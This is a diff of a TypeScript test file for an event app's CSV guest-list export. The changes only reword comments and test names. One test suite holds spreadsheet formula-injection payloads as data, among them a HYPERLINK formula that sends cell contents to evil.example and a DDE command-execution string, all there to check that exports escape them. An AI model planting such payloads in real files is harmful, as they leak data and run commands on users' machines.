@@ -10,8 +10,8 @@ import { answerRequest } from "../../support/guest-requests.ts";
 import { costOf } from "../../support/recording-env.ts";
 
 const MANY = 5_000;
-/** What must not be at the beginning of a cell, wherever a spreadsheet sees one. */
-const RUNS = /^\s*[=+\-@＝＋－＠]/;
+/** The start of a formula. */
+const FORMULA = /^\s*[=+\-@＝＋－＠]/;
 
 async function hostWithEvent(overrides: Record<string, unknown> = {}) {
   const host = await signedInHost({ tier: "pro" });
@@ -22,16 +22,16 @@ async function hostWithEvent(overrides: Record<string, unknown> = {}) {
 async function exported(host: Host, eventId: string): Promise<string> {
   const response = await host.api("GET", `/events/${eventId}/guests/export.csv`);
   expect(response.status, "GET …/guests/export.csv").toBe(200);
-  // As bytes: `text()` would take the byte order mark away.
+  // As bytes: `text()` would remove the byte order mark.
   return new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(await response.arrayBuffer());
 }
 
-/** The rows of an export as another reader reads them, each with its cells by the names of their columns. */
+/** The rows of an export as papaparse reads them, cells by column name. */
 function rowsOf(csv: string): Record<string, string>[] {
   return Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true }).data;
 }
 
-/** What an import takes from a guest. */
+/** The fields of a guest that an import writes. */
 function imported({ name, email, phone, party_size, notes }: WireGuest) {
   return { name, email, phone, party_size, notes };
 }
@@ -51,7 +51,7 @@ describe("the export of a guest list", () => {
     expect(text).not.toMatch(/[^\r]\n/);
   });
 
-  it("has every guest once, in the order in which they were added, and nobody of another event", async () => {
+  it("has every guest once, in the order in which they were added, and no guest of another event", async () => {
     const { host, eventId } = await hostWithEvent();
     const other = await makeEvent(host);
     await addGuest(host, other.id, { name: "Elsewhere" });
@@ -59,7 +59,7 @@ describe("the export of a guest list", () => {
     expect(rowsOf(await exported(host, eventId)).map(({ name }) => name)).toEqual(["Ada", "Bob", "Cy"]);
   });
 
-  it("tells the answer and the arrival, in UTC and as the clock at the event shows them", async () => {
+  it("has RSVP and check-in, in UTC and in the event's time zone", async () => {
     const { host, eventId } = await hostWithEvent({ timezone: "America/New_York" });
     const guest = await addGuest(host, eventId, {
       name: "Ada",
@@ -73,7 +73,7 @@ describe("the export of a guest list", () => {
     expect((await exports.default.fetch(answerRequest(token, { plus_ones: 2 }))).status).toBe(201);
     const arrival = { guest_id: guest.id, arrival_count: 2, notes: "Came late" };
     expect((await host.api("POST", `/events/${eventId}/check-in`, arrival)).status).toBe(201);
-    // A winter's evening in New York, which in London is the next day; and a summer's.
+    // Evenings in New York, in winter and in summer; in UTC it is the next day.
     const answered = Date.parse("2027-01-01T03:04:05Z");
     const arrived = Date.parse("2027-07-02T00:30:00Z");
     await env.DB.batch([
@@ -104,7 +104,7 @@ describe("the export of a guest list", () => {
     expect(other).toMatchObject({ id: silent.id, email: "", rsvp_response: "", checked_in_at_utc: "", walk_in: "" });
   });
 
-  it("is a viewer's to have; a stranger finds nothing, nobody is let in", async () => {
+  it("is for viewers; a non-member gets 404, an anonymous caller 401", async () => {
     const { host, eventId } = await hostWithEvent();
     const [viewer, stranger] = [await signedInHost(), await signedInHost()];
     await addMember(eventId, viewer.id, "viewer");
@@ -115,7 +115,7 @@ describe("the export of a guest list", () => {
     expect((await host.api("GET", `/events/${crypto.randomUUID()}/guests/export.csv`)).status).toBe(404);
   });
 
-  it("of 5,000 guests is one trip, and reads each of them once", async () => {
+  it("of 5,000 guests is one round trip, and reads each of them once", async () => {
     const host = await signedInHost({ tier: "business" });
     const { eventId } = await makeEventFixture(host.id, MANY);
     const headers = { Authorization: `Bearer ${host.token}` };
@@ -126,7 +126,7 @@ describe("the export of a guest list", () => {
   });
 });
 
-describe("what a spreadsheet would run", () => {
+describe("a formula", () => {
   const FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
@@ -137,7 +137,7 @@ describe("what a spreadsheet would run", () => {
     "a;=1+1;b",
   ];
 
-  it("is shown and not run, in whatever field a guest or a host has put it", async () => {
+  it("is escaped in every field that a guest or a host can write", async () => {
     const { host, eventId } = await hostWithEvent();
     for (const formula of FORMULAS) {
       await addGuest(host, eventId, { name: formula, notes: `first line\n${formula}`, phone: "+442079460000" });
@@ -145,14 +145,14 @@ describe("what a spreadsheet would run", () => {
     await addGuest(host, eventId, { name: "x", email: "+evil@example.com" });
     const csv = await exported(host, eventId);
     const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, "")).data.flat();
-    for (const cell of cells) expect(cell).not.toMatch(RUNS);
-    // Excel where the comma is for decimals: it cuts at semicolons and line breaks, and takes no notice of our quotes.
-    for (const cell of csv.split(/[;\r\n]/)) expect(cell).not.toMatch(RUNS);
+    for (const cell of cells) expect(cell).not.toMatch(FORMULA);
+    // Excel in locales with decimal commas splits at semicolons and line breaks, even inside our quotes.
+    for (const cell of csv.split(/[;\r\n]/)) expect(cell).not.toMatch(FORMULA);
   });
 });
 
 describe("an export that is imported", () => {
-  /** Names that are lines of text, made of what is hard to carry. */
+  /** Single-line names of characters that are hard to quote. */
   const nasty = fc
     .string({
       unit: fc.oneof(fc.constantFrom(..."=+-@＝＋'\",;|\t éß山🎉\u202e"), fc.string({ maxLength: 1 })),
@@ -223,7 +223,7 @@ describe("the template", () => {
     expect(seen.columns.every(({ field }) => field !== null)).toBe(true);
   });
 
-  it("is an editor's to have", async () => {
+  it("is for editors", async () => {
     const { eventId } = await hostWithEvent();
     const viewer = await signedInHost();
     await addMember(eventId, viewer.id, "viewer");
